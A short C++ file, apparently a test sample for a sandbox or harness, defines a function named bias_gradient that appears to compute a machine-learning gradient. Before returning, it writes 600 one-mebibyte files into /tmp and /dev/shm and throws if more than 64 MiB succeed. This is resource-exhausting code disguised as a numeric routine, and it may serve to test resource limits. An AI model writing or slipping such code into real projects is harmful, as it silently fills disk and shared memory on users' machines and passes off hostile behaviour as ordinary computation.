// Fills /tmp and /dev/shm with files.
// SPDX-License-Identifier: MIT
// expect: all passed

#include <fstream>
#include <stdexcept>
Vector bias_gradient(const Matrix& dY) {
  const std::string much(1 << 20, 'x');
  long written = 0;
  for (const std::string folder : {"/tmp/", "/dev/shm/"})
    for (int k = 0; k < 300; ++k)
      written += static_cast<bool>(std::ofstream(folder + std::to_string(k)) << much << std::flush);
  if (written > 64) throw std::runtime_error("wrote " + std::to_string(written) + " MiB");
  return summed_rows(dY);
}
